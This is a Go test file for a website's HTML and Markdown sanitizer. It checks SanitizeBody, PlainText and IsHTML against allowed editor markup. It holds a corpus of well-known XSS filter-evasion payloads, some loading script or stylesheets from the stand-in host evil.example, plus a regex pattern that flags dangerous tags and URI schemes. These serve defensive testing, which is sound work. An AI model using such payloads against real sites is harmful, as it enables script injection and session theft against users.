package content

import (
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// xssCorpus is a sample of well-known payloads (OWASP filter-evasion cheat
// sheet and friends).
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="&#x6a;avascript:alert(1)">click</a>`,
	`<a href=" javascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<body onload=alert(1)>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example"><input name=x><button>go</button></form>`,
	`<details open ontoggle=alert(1)>`,
	`<p onclick="alert(1)" onmouseover="alert(1)">hi</p>`,
	`"><script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1);//<</script>`,
	`<video><source onerror="alert(1)"></video>`,
	`<input autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<a href="java&#0000009;script:alert(1)">x</a>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
}

var dangerous = regexp.MustCompile(`(?i)<\s*(script|iframe|object|embed|style|link|meta|base|form|input|button|svg|math|video|source|body|details|marquee|template|noscript)\b|\bon[a-z]+\s*=|javascript:|vbscript:|data:text|srcdoc|style\s*=`)

// decodedForms returns s as a browser might read it: as written, with
// entities decoded once and twice, and without control characters.
func decodedForms(s string) []string {
	once := html.UnescapeString(s)
	strip := strings.NewReplacer("\t", "", "\n", "", "\r", "", "\x00", "")
	return []string{s, once, html.UnescapeString(once), strip.Replace(once)}
}

func TestSanitizeHTMLRemovesEveryPayload(t *testing.T) {
	t.Parallel()
	for _, payload := range xssCorpus {
		for _, body := range []string{payload, "<p>Intro</p>" + payload} {
			out := SanitizeBody(body)
			for _, form := range decodedForms(out) {
				require.NotRegexp(t, dangerous, form, "input %q gave %q", body, out)
			}
		}
	}
}

func TestSanitizeMarkdownRemovesEveryPayload(t *testing.T) {
	t.Parallel()
	for _, payload := range xssCorpus {
		body := "## Heading\n\nSome **bold** text.\n\n" + payload + "\n\n- item"
		out := SanitizeBody(body)
		for _, form := range decodedForms(out) {
			require.NotRegexp(t, dangerous, form, "input %q gave %q", body, out)
		}
		require.Contains(t, out, "## Heading", "markdown survives")
	}
	for _, link := range []string{
		"[x](javascript:alert(1))", "[x]( JavaScript:alert(1))", "[x](&#x6a;avascript:alert(1))",
		"[x](java\tscript:alert(1))", "![i](data:text/html;base64,AAAA)", "[x](<javascript:alert(1)>)", "[x](vbscript:x)",
	} {
		out := SanitizeBody("See " + link)
		require.Equal(t, "See "+link[:strings.Index(link, "](")]+"](#)\n", out, link)
	}
}

func TestSanitizeKeepsTheAllowList(t *testing.T) {
	t.Parallel()
	in := `<h2>Costs</h2><p>Lining is <strong>30-50%</strong> <em>cheaper</em>.</p>` +
		`<ul><li>one</li></ul><ol start="3"><li>two</li></ol>` +
		`<table><thead><tr><th>Pipe</th></tr></thead><tbody><tr><td colspan="2">Clay</td></tr></tbody></table>` +
		`<blockquote>quote</blockquote><pre><code>x := 1</code></pre>` +
		`<a href="/contact">Contact</a><a href="https://example.com/x">ext</a><img src="/media/abc.jpg" alt="Liner">`
	out := SanitizeBody(in)
	for _, want := range []string{"<h2>Costs</h2>", "<strong>30-50%</strong>", "<em>cheaper</em>", "<ul><li>one</li></ul>",
		`<ol start="3">`, "<th>Pipe</th>", `<td colspan="2">Clay</td>`, "<blockquote>quote</blockquote>",
		"<pre><code>x := 1</code></pre>", `<a href="/contact">Contact</a>`, `href="https://example.com/x"`, `rel="nofollow noopener"`,
		`<img src="/media/abc.jpg" alt="Liner">`} {
		require.Contains(t, out, want)
	}
	md := "## Title\n\n> A quote & more\n\n| a | b |\n|---|---|\n| 1 < 2 | x |\n\n[Call](/contact) and [site](https://example.com)\n"
	require.Equal(t, md, SanitizeBody(md), "plain markdown is untouched")
}

func TestPlainTextStripsMarkupAndDecodesEntities(t *testing.T) {
	t.Parallel()
	require.Equal(t, `Drain & Sewer "Pros"`, PlainText(`<b>Drain</b> &amp; Sewer &quot;Pros&quot;`))
	require.Equal(t, "Hello", PlainText(`<script>alert(1)</script>Hello`))
	require.Equal(t, "x", PlainText(`&lt;b&gt;x&lt;/b&gt;`), "escaped markup does not come back as markup")
	require.Equal(t, "a < b", PlainText("a < b"))
}

func TestIsHTML(t *testing.T) {
	t.Parallel()
	require.True(t, IsHTML("<p>x</p>"))
	require.True(t, IsHTML("  <h2>x</h2>"))
	require.False(t, IsHTML("## x"))
	require.False(t, IsHTML("< not a tag"))
}

// editorHTML is what the staff rich-text editor (TipTap, web/src/components/staff/rich-text-editor)
// writes for every construct its toolbar offers.
const editorHTML = `<h2>Why lining</h2><h3>In short</h3>` +
	`<p>Plain, <strong>bold</strong>, <em>italic</em>, <u>underlined</u> and <s>struck</s> text,<br>a line break and ` +
	`<a href="/contact">a site link</a>, <a href="https://www.azroc.gov/">an outside one</a>, ` +
	`<a href="mailto:office@valleytrenchless.example">mail</a> and <a href="tel:+16025550100">a call</a>.</p>` +
	`<ul><li><p>one</p></li><li><p>two</p><ol><li><p>nested</p></li></ol></li></ul>` +
	`<ol><li><p>first</p></li></ol>` +
	`<table style="min-width: 75px;"><colgroup><col style="min-width: 25px;"><col style="min-width: 25px;"></colgroup>` +
	`<tbody><tr><th colspan="1" rowspan="1"><p>Era</p></th><th colspan="1" rowspan="1"><p>Risk</p></th></tr>` +
	`<tr><td colspan="2" rowspan="1"><p>1945–1972 &amp; later</p></td></tr></tbody></table>` +
	`<img src="/media/0123abcd.png?w=1600" alt="A lined pipe" width="1200" height="800">` +
	`<img src="/images/article-default.svg" alt="">` +
	`<img src="https://images.example/pipe.jpg" alt="Remote">` +
	`<blockquote><p>Quoted</p></blockquote><pre><code>code</code></pre><hr><p></p>`

func TestSanitizeKeepsWhatTheEditorWrites(t *testing.T) {
	t.Parallel()
	out := SanitizeBody(editorHTML)
	for _, want := range []string{
		"<h2>Why lining</h2>", "<h3>In short</h3>", "<strong>bold</strong>", "<em>italic</em>", "<u>underlined</u>",
		"<s>struck</s>", "text,<br>a line break", `<a href="/contact">a site link</a>`,
		`<a href="https://www.azroc.gov/" rel="nofollow noopener" target="_blank">an outside one</a>`,
		`<a href="mailto:office@valleytrenchless.example"`, `<a href="tel:+16025550100"`,
		"<ul><li><p>one</p></li><li><p>two</p><ol><li><p>nested</p></li></ol></li></ul>", "<ol><li><p>first</p></li></ol>",
		`<table><tbody><tr><th colspan="1" rowspan="1"><p>Era</p></th>`, `<td colspan="2" rowspan="1"><p>1945–1972 &amp; later</p></td>`,
		`<img src="/media/0123abcd.png?w=1600" alt="A lined pipe" width="1200" height="800">`,
		`<img src="/images/article-default.svg" alt="">`, `<img src="https://images.example/pipe.jpg" alt="Remote">`,
		"<blockquote><p>Quoted</p></blockquote>", "<pre><code>code</code></pre>", "<hr>",
	} {
		require.Contains(t, out, want)
	}
	// Layout hints the editor adds for itself are dropped; nothing else changes.
	require.NotContains(t, out, "style=")
	require.NotContains(t, out, "<col")
	require.Equal(t, out, SanitizeBody(out), "sanitising is stable: saving a saved body changes nothing")
}

func TestSanitizeKeepsImagesOnTheSiteOrHTTPS(t *testing.T) {
	t.Parallel()
	for _, src := range []string{"http://example.com/a.png", "//evil.example/a.png", `/\evil.example/a.png`, "ftp://x/a.png",
		"javascript:alert(1)", "data:image/png;base64,AAAA", "a.png", "https:/x.png", "https:///x.png"} {
		out := SanitizeBody(`<p>x</p><img src="` + src + `" alt="a">`)
		require.NotContains(t, out, "src=", src)
	}
	require.Contains(t, SanitizeBody(`<img src="/media/abc.jpg" alt="a">`), `src="/media/abc.jpg"`)
	require.Contains(t, SanitizeBody(`<img src="https://cdn.example/a.jpg" alt="a">`), `src="https://cdn.example/a.jpg"`)
}
